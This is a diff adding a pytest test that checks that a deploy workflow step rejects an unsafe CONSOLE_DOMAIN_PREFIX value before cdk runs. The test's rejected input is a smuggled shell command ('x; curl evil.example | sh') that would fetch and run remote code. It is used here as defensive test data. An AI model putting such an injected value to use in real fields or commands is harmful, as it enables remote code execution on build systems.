@@ -193,3 +193,38 @@ def test_stage_context_refuses_what_no_setting_needs() -> None:
     )
     assert result.returncode == 2 and result.stdout == ""
     assert "CONSOLE_DOMAIN_PREFIX" in result.stderr
+
+
+@pytest.mark.parametrize("job", ["dev", "prod-diff"])
+def test_a_refused_stage_setting_stops_the_deploy_before_cdk_runs(
+    deploy: dict[str, Any], job: str, tmp_path: Any
+) -> None:
+    # Given the step as GitHub runs it (bash -eo pipefail), with cdk replaced by a recorder
+    (step,) = [s for s in steps(deploy["jobs"][job]) if "stage-context.sh" in s.get("run", "")]
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    calls = tmp_path / "npx-calls"
+    workdir = tmp_path / "checkout"  # what the step writes (diff.txt) stays out of the repository
+    workdir.mkdir()
+    (workdir / ".github").symlink_to(ROOT / ".github")
+    (bin_dir / "npx").write_text(f'#!/usr/bin/env bash\necho "$*" >> {calls}\n')
+    (bin_dir / "npx").chmod(0o755)
+
+    def run(**variables: str) -> subprocess.CompletedProcess[str]:
+        env = {
+            "PATH": f"{bin_dir}:{os.environ['PATH']}",
+            "RUNNER_TEMP": str(tmp_path),
+            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
+            "SHA": "0" * 40,
+            **variables,
+        }
+        command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
+        return subprocess.run(command, cwd=workdir, env=env, capture_output=True, text=True, check=False)
+
+    # When a variable holds what no setting needs, Then the step fails and cdk never runs
+    refused = run(CONSOLE_DOMAIN_PREFIX="x; curl evil.example | sh")
+    assert refused.returncode != 0 and "CONSOLE_DOMAIN_PREFIX" in refused.stderr
+    assert not calls.exists()
+    # And with good settings cdk gets each of them
+    assert run(WEBHOOK_COLD_START="provisioned").returncode == 0
+    assert "--context=webhookColdStart=provisioned" in calls.read_text().splitlines()[0]
